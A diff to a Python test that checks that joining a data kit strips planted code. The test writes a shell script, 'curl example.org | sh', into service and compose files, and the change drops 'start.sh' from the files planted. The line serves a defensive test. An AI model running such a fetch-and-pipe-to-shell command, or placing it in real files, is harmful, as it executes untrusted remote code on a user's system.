@@ -160,7 +160,7 @@ def test_a_hospitals_own_file_joins_and_is_read_so_from_then_on(there, capsys):
 def test_a_kit_brings_no_code(there):
     there.kits()
     kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
-    for name in ("start.sh", "fedcal-site.service", "compose.yml"):
+    for name in ("fedcal-site.service", "compose.yml"):
         (kit / name).write_text(strange)
     join(kit, str(write_rows(there.folder / "rows.csv")))
     assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
